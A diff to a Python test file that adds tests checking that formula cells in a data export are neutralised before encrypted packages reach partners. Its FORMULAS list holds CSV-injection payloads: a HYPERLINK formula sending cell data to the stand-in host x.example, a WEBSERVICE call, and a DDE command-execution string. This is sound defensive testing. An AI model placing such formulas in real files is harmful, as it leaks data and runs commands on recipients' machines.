@@ -1,4 +1,4 @@
-"""Hostile values: phone numbers typed into counts, contacts in disguise.
+"""Hostile values: phone numbers typed into counts, contacts in disguise, spreadsheet formulas.
 
 Each goes in through the file drop or ``check-round`` as an operator runs them, and out through
 the packages a partner opens; errors name file, column and row, never the value.
@@ -6,29 +6,35 @@ the packages a partner opens; errors name file, column and row, never the value.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
-from datetime import UTC, datetime
+from datetime import UTC, date, datetime
 
 import pandas as pd
 import pyarrow as pa
 import pytest
+import pyzipper
 import sqlalchemy as sa
 import yaml
 from conftest import POLICY_DIR
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from dissemination import contacts
+from dissemination import contacts, staging, steps
 from dissemination.__main__ import main
 from dissemination.classification import Urgency
 from dissemination.contract import conform
 from dissemination.disclosure import build_content
 from dissemination.intake import import_drop
+from dissemination.ledger_migrations import open_upgraded
+from dissemination.package import DATA_FILE, open_package
 from dissemination.sensitivity import active_relational, classify_round, select_for_agreement
 from dissemination.source import RoundMeta
 
 NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
 META = RoundMeta("NGA-R007-partial", "NGA", "partial", datetime(2026, 11, 20, tzinfo=UTC))
+PASSWORD = "Vq7#pX2!mZ9$kL4@wR8%tB6^"
 #: Contacts written so that the contract or redaction missed them on 7988561.
 DISGUISED = [
     "0803_555_0199", "0803*555*0199", "0803:555:0199", "0803;555;0199",
@@ -36,7 +42,9 @@ DISGUISED = [
     "zero eight zero three five five five zero one nine nine",
     "zéro huit zéro trois cinq cinq cinq zéro un neuf neuf",
 ]
-
+#: What a spreadsheet program runs as a formula, as the security review typed them.
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bakassi")', '=WEBSERVICE("http://x.example")',
+            "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
 
 
 def _round(n: int = 6, **columns) -> pd.DataFrame:
@@ -179,3 +187,73 @@ def test_the_contract_and_redaction_agree_on_every_value(policy, text):
         assert n == 1 and redacted[0] != text
     elif not re.search(contacts.ID_LIKE, contacts.fold_text(text)):
         assert n == 0 and redacted[0] == text
+
+
+# --- 5. formulas --------------------------------------------------------------------------------
+
+
+def _spreadsheet_formulas(csv_bytes: bytes) -> list[tuple[int, int]]:
+    """Cells a spreadsheet program would run, read as Excel and LibreOffice read a CSV (RFC
+    4180 quoting; a cell starting with = + - @ is a formula unless it is a number; a leading
+    tab or carriage return is dropped first)."""
+    def number(text: str) -> bool:
+        try:
+            float(text)
+        except ValueError:
+            return False
+        return True
+
+    found = []
+    for r, row in enumerate(csv.reader(io.StringIO(csv_bytes.decode("utf-8"), newline=""))):
+        for c, cell in enumerate(row):
+            text = cell.lstrip("\t\r")
+            if text[:1] in ("=", "+", "-", "@") and not number(text):
+                found.append((r, c))
+    return found
+
+
+def _package_nga(policy, tmp_path, site_names: list[str]):
+    raw = _round(len(site_names), site_name=site_names)
+    staged = steps.stage_round(META, raw, policy, tmp_path / "r.arrow")
+    df = staging.read_staged(staged["path"])
+    plans = steps.plan_deliveries(policy, META, staged["columns"], Urgency.MEDIUM,
+                                  today=date(2026, 11, 21), only=["unicef-nga"],
+                                  active=staged["active_relational"])
+    ledger = open_upgraded(sa.create_engine(f"sqlite:///{tmp_path / 'ledger.db'}"))
+    return steps.package_deliveries(df, META, plans, policy, tmp_path / "pk",
+                                    lambda variable: PASSWORD, ledger, NOW, workers=1)
+
+
+def test_formulas_in_a_site_name_reach_no_spreadsheet(policy, tmp_path):
+    """The review's five formulas (and a tab and a carriage return ahead of one) reached
+    ``data.csv`` verbatim; now each is text, said in the manifest, for every recipient."""
+    names = [*FORMULAS, "Bakassi camp", "-"]
+    packaged = _package_nga(policy, tmp_path, names)
+    assert [p.status for p in packaged] == ["packaged", "packaged"]  # primary and field FP
+    for delivery in packaged:
+        with pyzipper.AESZipFile(delivery.package_path) as zf:
+            zf.setpassword(PASSWORD.encode())
+            data = zf.read(DATA_FILE)
+        assert _spreadsheet_formulas(data) == []
+        manifest, frame = open_package(delivery.package_path, PASSWORD)
+        assert manifest["formula_cells_neutralised"] == len(FORMULAS) + 1
+        assert frame["site_name"].tolist() == [  # (the contract trims what surrounds a value)
+            *(f"'{f.strip()}" for f in FORMULAS), "Bakassi camp", "'-"]
+
+
+def test_check_round_reports_formula_cells_and_a_clean_export_still_passes(tmp_path, capsys,
+                                                                          policy):
+    export = tmp_path / "NGA-R007-partial.csv"
+    _round(**_with("site_name", 1, FORMULAS[0])).to_csv(export, index=False)
+    code, out = _check_round(export, capsys)
+    assert code == 0
+    assert "neutralised when delivered: site_name: 1 cell(s) begin with =, +, -, @" in out
+    assert "HYPERLINK" not in out
+
+    synthetic = tmp_path / "synthetic.csv"
+    assert main(["synth", "--out", str(synthetic), "--country", "NGA", "--sites", "300",
+                 "--include", str(POLICY_DIR)]) == 0
+    capsys.readouterr()
+    code, out = _check_round(synthetic, capsys)
+    assert code == 0 and "conforms" in out and "neutralised" not in out
+
